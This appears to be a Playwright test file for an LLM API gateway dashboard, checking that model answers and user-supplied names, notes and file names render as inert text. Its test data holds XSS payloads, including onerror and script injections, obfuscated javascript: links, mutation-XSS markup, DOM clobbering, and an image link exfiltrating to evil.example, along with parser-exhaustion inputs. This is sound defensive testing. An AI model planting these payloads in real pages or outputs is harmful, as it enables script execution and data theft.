// What strangers write — models, names, notes, titles, files — is shown as text and does nothing. Each text below would
// tell on itself: it sets a mark in the page, or asks this or another site for something.

import t from 'tap'
import type { Page } from 'playwright-core'
import type { Test } from 'tap'
import { openBrowser, settled, shows, startPage } from '../fixtures/page-browser.ts'
import { chat } from '../fixtures/backend-model.ts'
import { writePast } from '../fixtures/page-past.ts'

const browser = await openBrowser(t)

const markup = `<img src=x onerror="globalThis.ran='img'"><script>globalThis.ran='script'</script>"'>&amp;`

/** No mark was set, and nothing was asked for but the page's own files and its API. */
async function harmless(t: Test, page: Page, asked: readonly string[]): Promise<void> {
  t.equal(await page.evaluate('globalThis.ran'), undefined, 'nothing ran')
  const elements =
    'main img, main iframe, main object, main form[action], main script, main style, main [style]:not(.chart *), main [onerror]'
  t.equal(await page.locator(elements).count(), 0, 'no such element was made')
  const strange = asked
    .map((url) => new URL(url))
    .filter(
      ({ origin, pathname }) =>
        origin !== new URL(page.url()).origin || !/^\/(account|api|v1)(\/|$)/.test(pathname),
    )
  t.same(strange.map(String), [], 'nothing else was asked for')
}

function requestsOf(page: Page): readonly string[] {
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  return asked
}

const answers: Readonly<Record<string, string>> = {
  script: `<script>globalThis.ran = 'script'</script>`,
  image: `<img src=x onerror="globalThis.ran = 'image'">`,
  'image elsewhere': '![a picture](https://evil.example/pixel.png?secret)',
  'image here': '![a picture](/account/api/me)',
  'javascript link':
    '[click](javascript:globalThis.ran=1) <a href="javascript:globalThis.ran=2">click</a>',
  'hidden javascript link':
    '[click](java&#x0A;script:globalThis.ran=1) [click](JaVaScRiPt&colon;globalThis.ran=1)',
  'data link': '[click](data:text/html,<script>globalThis.ran=1</script>)',
  'link that logs in': '[click](/account#link=AAAAAAAAAAAA.stolen)',
  'link that is led here': '[click](https://127.0.0.1/account#link=AAAAAAAAAAAA.stolen)',
  svg: `<svg onload="globalThis.ran='svg'"><animate onbegin="globalThis.ran='svg'" attributeName=x></svg>`,
  'math and mutations': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.ran=1&gt;">`,
  'open elements': '<div><table><a href="x">*text',
  frame: `<iframe srcdoc="<script>parent.ran='frame'</script>"></iframe><object data="x"></object>`,
  form: '<form action="/account/api/logout" method="post"><button>click</button></form><input autofocus onfocus="globalThis.ran=1">',
  style: `<style>body{display:none}</style><p style="position:fixed;inset:0">over all</p>`,
  clobbering: '<a id="app" name="said">x</a><img name="querySelector">',
  'code with markup': '```html"onload="globalThis.ran=1\n<script>globalThis.ran=1</script>\n```',
  'deep lists': '- '.repeat(500) + 'deep',
  'deep quotes': '>'.repeat(2000) + 'deep',
  'deeper than a stack': '> '.repeat(20_000) + 'deep',
  'slow to parse': '*a**b'.repeat(9000),
  'longer than is parsed': '*a* <b> '.repeat(9000),
}

t.test('what a model answers does nothing, and reads as what it is', async (t) => {
  let answer = ''
  // Two pieces: elements that are half there are drawn, too.
  const script = chat({ chunks: 2, text: (i) => (i === 0 ? answer.slice(0, 9) : answer.slice(9)) })
  const { enter, visitor } = await startPage(t, { browser, script })
  const person = await visitor()
  const page = await enter('Playground', { visitor: person })
  const asked = requestsOf(page)
  for (const [name, text] of Object.entries(answers)) {
    await t.test(name, async (t) => {
      answer = text
      const before = await page.locator('.figures:not(:empty)').count()
      await page.getByLabel('Your message').fill(name)
      await page.keyboard.press('Enter')
      await page.locator('.figures:not(:empty)').nth(before).waitFor()
      await harmless(t, page, asked)
      for (const link of await page.locator('.answer').last().getByRole('link').all()) {
        t.match(await link.getAttribute('href'), /^(https?|mailto):/)
      }
      if (text.startsWith('<script>'))
        t.ok(await page.getByText(text).last().isVisible(), 'shown as text')
      for (const link of await page.locator('.answer').last().locator('a, button').all())
        await link.click({ force: true })
      await harmless(t, page, asked)
      t.equal(person.pages().length, 1, 'no tab was opened')
      t.match(page.url(), /#playground\/sess_/)
    })
  }
})

t.test('a good link opens a tab of its own that knows nothing of this one', async (t) => {
  const script = chat({ chunks: 1, text: () => 'See [the page](https://example.com/a?b#c).' })
  const { enter } = await startPage(t, { browser, script })
  const page = await enter('Playground')
  await page.getByLabel('Your message').fill('Where?')
  await page.keyboard.press('Enter')
  const link = page.locator('.answer').getByRole('link', { name: 'the page' })
  t.equal(await link.getAttribute('href'), 'https://example.com/a?b#c')
  t.equal(await link.getAttribute('target'), '_blank')
  t.match(await link.getAttribute('rel'), /noopener noreferrer/)
})

t.test('names of accounts and keys, notes, models and files with markup are text', async (t) => {
  const world = await startPage(t, {
    browser,
    script: chat({ chunks: 1 }),
    name: markup,
    account: 'currency: { code: XTS, tokens: 1000 }',
  })
  const { enter, gateway, account } = world
  const { id, key } = await gateway.keyFor(account.id, { name: markup })
  const { id: user } = await gateway.keyFor(account.id, { name: `of charges ${markup}` })
  await writePast(t, world, {
    usage: [
      { at: Date.now() / 1000, model: markup, keyId: user, requests: 1 },
      { at: Date.now() / 1000, model: '__proto__', keyId: '__proto__', requests: 1 },
    ].map((one) => ({ ...one, prompt: 5, cached: 1, completion: 5, cost: 10 })),
    journal: [
      { atMs: Date.now() - 1000, type: 'charge', amount: -10, balance: 5, model: markup },
      { atMs: Date.now() - 999, type: markup, amount: 10, balance: 5 },
    ].map((one) => ({ ...one, keyId: user, usage: [5, 1, 5], meta: { request_id: markup } })),
  })
  await gateway.admin('POST', `accounts/${account.id}/topup`, { amount: 5, note: markup })
  await gateway.call('/v1/chat/completions', key, {
    model: 'gpt-mini',
    messages: [{ role: 'user', content: markup }],
  })
  const page = await enter('Overview')
  const asked = requestsOf(page)
  await page.getByRole('banner').getByText(markup).waitFor()
  for (const view of ['Keys', 'Usage', 'Transactions', 'Playground', 'Limits', 'Overview']) {
    await page.getByRole('link', { name: view, exact: true }).click()
    await settled(page, view)
    await harmless(t, page, asked)
  }
  await page.getByRole('link', { name: 'Usage' }).click()
  await page.locator('.filters select').first().selectOption(markup)
  await page
    .getByRole('row', { name: /^Total 1/ })
    .or(page.locator('tfoot'))
    .first()
    .waitFor()
  await harmless(t, page, asked)
  await page.getByRole('link', { name: 'Transactions' }).click()
  await shows(page, markup)
  await page.getByRole('link', { name: 'Keys' }).click()
  for (const action of ['Rename', 'Rotate', 'Revoke']) {
    await page.getByRole('button', { name: `${action}: ${markup}` }).click()
    await harmless(t, page, asked)
    await page.keyboard.press('Escape')
  }
  await page.getByRole('button', { name: `Revoke: ${markup}` }).click()
  await page.getByRole('dialog').getByRole('textbox').fill(markup)
  await page.getByRole('button', { name: 'Revoke the key' }).click()
  await page.getByRole('dialog').waitFor({ state: 'detached' })
  t.ok(id)
  await page.getByRole('link', { name: 'Playground' }).click()
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByRole('button', { name: 'Attach a file' }).click(),
  ])
  await chooser.setFiles({
    name: '<img src=x onerror=globalThis.ran=1>.txt',
    mimeType: 'text/plain',
    buffer: Buffer.from('x'),
  })
  await page.getByLabel('Your message').fill(markup)
  await shows(page, '1 byte')
  await page.keyboard.press('Enter')
  await shows(page, /1 out/)
  await harmless(t, page, asked)
  await page.reload()
  await settled(page, 'Playground')
  await harmless(t, page, asked)
})
